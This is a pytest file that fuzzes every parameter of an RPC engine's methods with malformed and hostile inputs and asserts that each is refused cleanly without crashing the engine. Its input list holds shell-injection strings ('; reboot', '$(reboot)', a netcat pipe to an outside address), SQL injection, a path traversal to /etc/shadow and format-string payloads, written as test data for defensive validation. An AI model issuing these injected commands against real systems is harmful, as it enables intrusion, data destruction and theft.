"""Every parameter of every method of a real engine, given what nobody should: refused by name, or mere text."""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

import pytest

from dpi_dual.rpc import plugin
from dpi_dual.rpc.signatures import Method, methods
from lab.engine import RunningEngine, running_engine

#: Text as no parameter is meant to be: for a shell, for SQL, for a path, a format, a terminal, an address parser.
TEXTS = (
    "",
    "; reboot",
    "$(reboot)",
    "`id`",
    "| nc 203.0.113.1 1",
    "'; DROP TABLE correlation_threats; --",
    "' OR '1'='1",
    "../../../etc/shadow",
    "%s%n%x",
    "\x1b[2J\x00\u202e\ud800",
    "::ffff:198.51.100.7",
    "fe80::1%br-lan",
    "198.51.100.7/33",
    "0x7f.1",
    "9" * 60_000,
)
OTHERS: tuple[Any, ...] = (None, True, -1, 1 << 70, 1.5, 1e308, [], {}, [[]], {"ip": "198.51.100.7"}, ["$(reboot)"])
PARAMETERS = [
    (obj, method, name)
    for obj, known in methods().items()
    for method, found in known.items()
    for name in found.params["properties"]
    if not (obj in plugin.SERVICE_OBJECTS and method in plugin.SERVICE_ACTIONS)
]
#: A value that its method takes, for what is required beside the one under test.
GOOD: dict[str, Any] = {"string": "198.51.100.7", "integer": 1, "number": 1, "boolean": True, "array": [], "object": {}}


@pytest.fixture(scope="module")
def engine() -> Iterator[RunningEngine]:
    with running_engine() as running:
        yield running


def _beside(method: Method, name: str) -> dict[str, Any]:
    rules = method.params["properties"]
    needed = [other for other in method.params.get("required", ()) if other != name]
    return {other: next(iter(rules[other].get("enum", [GOOD[rules[other]["type"]]]))) for other in needed}


def _fits(rule: dict[str, Any], value: object) -> bool:
    kinds: dict[str, tuple[type, ...]] = {
        "string": (str,),
        "boolean": (bool,),
        "integer": (int,),
        "number": (int, float),
        "array": (list,),
        "object": (dict,),
    }
    return type(value) in kinds[rule["type"]]


@pytest.mark.parametrize(("obj", "name", "parameter"), PARAMETERS, ids=[" ".join(entry) for entry in PARAMETERS])
def test_no_value_is_more_than_refused_by_name(engine: RunningEngine, obj: str, name: str, parameter: str) -> None:
    method = methods()[obj][name]
    rule = method.params["properties"][parameter]
    for value in (*TEXTS, *OTHERS):
        answer = engine.call(obj, name, **{**_beside(method, parameter), parameter: value})
        assert answer.get("code") != "internal", (value, answer)
        complaint = str(answer.get("error", answer.get("message", "")))
        assert len(complaint) < 600, (value, complaint)
        if not _fits(rule, value):
            refused = answer.get("error") or answer.get("success") is False
            assert refused and parameter in complaint, (value, answer)
        elif isinstance(value, str) and len(value) > rule.get("maxLength", len(value)):
            assert "error" in answer or answer.get("success") is False, (value, answer)
    assert engine.process.poll() is None


def test_every_text_has_a_bound() -> None:
    unbounded = [
        (obj, method, name)
        for obj, method, name in PARAMETERS
        for rule in (methods()[obj][method].params["properties"][name],)
        if rule["type"] == "string" and "maxLength" not in rule and "enum" not in rule
    ]
    assert unbounded == []


@pytest.mark.parametrize("obj", sorted(methods()))
def test_ten_megabytes_are_refused_wherever_they_stand(engine: RunningEngine, obj: str) -> None:
    name = next(iter(methods()[obj]))
    assert engine.call(obj, name, ip="1" * 10_000_000)["code"] == "too_long"
    assert engine.call(obj, name, **{"1" * 10_000_000: 1})["code"] == "too_long"
    assert engine.call("dpi.status", "version")["engine"] == "running"
